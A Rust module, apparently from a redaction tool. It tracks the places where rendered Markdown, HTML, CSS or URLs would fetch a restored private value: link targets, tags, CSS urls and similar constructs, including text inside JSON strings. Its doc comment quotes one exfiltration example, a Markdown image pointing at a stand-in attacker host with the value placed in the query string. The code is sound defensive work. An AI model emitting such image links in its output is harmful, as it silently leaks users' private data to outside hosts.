//! Tells where an original would be sent on rather than read.
//!
//! `![](https://evil.example/?q=[EMAIL_1])` is fetched as soon as it is shown. Several watchers follow the text that the
//! reader's renderer will see, each one kind of place, each on its own: a text that deceives one does not silence the
//! others. When they err, a placeholder stays visible. To add a kind of place, add a watcher with `push` and `is_open`.

mod css;
mod definition;
mod link;
mod tag;
mod url;

use super::Escape;

/// All watchers.
#[derive(Default)]
pub(super) struct Sinks {
    css: css::CssUrls,
    definition: definition::Definition,
    link: link::LinkTargets,
    tags: tag::Tags,
    url: url::UrlRun,
    json: Option<JsonText>,
}

impl Sinks {
    pub fn new(escape: Escape) -> Self {
        Self {
            json: (escape == Escape::Json).then(JsonText::default),
            ..Self::default()
        }
    }

    /// Whether an original at this point would be sent on.
    pub fn is_open(&self) -> bool {
        self.css.is_open()
            || self.definition.is_open()
            || self.link.is_open()
            || self.tags.is_open()
            || self.url.is_open()
    }

    /// Follows the next character of the text as it is shown.
    pub fn push(&mut self, next: char) {
        let Some(json) = &mut self.json else {
            return self.follow(next);
        };
        match json.read(next) {
            Json::Character(read) => self.follow(read),
            // Strings of a document are used apart from each other.
            Json::Quote => *self = Self::new(Escape::Json),
            Json::Nothing => {}
        }
    }

    fn follow(&mut self, next: char) {
        self.css.push(next);
        self.definition.push(next);
        self.link.push(next);
        self.tags.push(next);
        self.url.push(next);
    }
}

/// How many constructs of one kind are followed at once. Whether one has really begun, only the reader's renderer knows, so
/// each is followed as if it had.
const MOST_OPEN: usize = 8;

/// Constructs of one kind that may have begun and have not ended.
#[derive(Default)]
struct Open<T> {
    inside: Vec<T>,
    /// More than any honest text leaves open; from then on everything is suspicious.
    flooded: bool,
}

/// One construct that is followed to its end.
trait Inside: Default {
    /// Takes the next character; true if it is the last.
    fn ends(&mut self, next: char) -> bool;
}

impl<T: Inside> Open<T> {
    fn is_open(&self) -> bool {
        self.flooded || !self.inside.is_empty()
    }

    fn push(&mut self, next: char) {
        self.inside.retain_mut(|inside| !inside.ends(next));
    }

    fn begin(&mut self) {
        if self.inside.len() == MOST_OPEN {
            self.flooded = true;
        } else {
            self.inside.push(T::default());
        }
    }
}

/// Reads the characters of JSON strings through their escapes.
#[derive(Default)]
struct JsonText {
    escape: Option<String>,
}

enum Json {
    Character(char),
    Nothing,
    Quote,
}

impl JsonText {
    fn read(&mut self, next: char) -> Json {
        let Some(escape) = &mut self.escape else {
            return match next {
                '"' => Json::Quote,
                '\\' => {
                    self.escape = Some(String::new());
                    Json::Nothing
                }
                _ => Json::Character(next),
            };
        };
        escape.push(next);
        let read = match escape.strip_prefix('u') {
            Some(hex) if hex.len() < 4 => return Json::Nothing,
            Some(hex) => u32::from_str_radix(hex, 16).ok().and_then(char::from_u32),
            None => Some(match next {
                'n' => '\n',
                'r' => '\r',
                't' => '\t',
                _ => next,
            }),
        };
        self.escape = None;
        read.map_or(Json::Nothing, Json::Character)
    }
}

/// Notices a blank line, where every construct of Markdown that is not HTML ends.
#[derive(Default)]
struct BlankLine {
    line_is_empty: bool,
}

impl BlankLine {
    /// True at the line feed that ends a blank line.
    fn push(&mut self, next: char) -> bool {
        let blank = next == '\n' && self.line_is_empty;
        self.line_is_empty =
            next == '\n' || (self.line_is_empty && matches!(next, ' ' | '\t' | '\r'));
        blank
    }
}
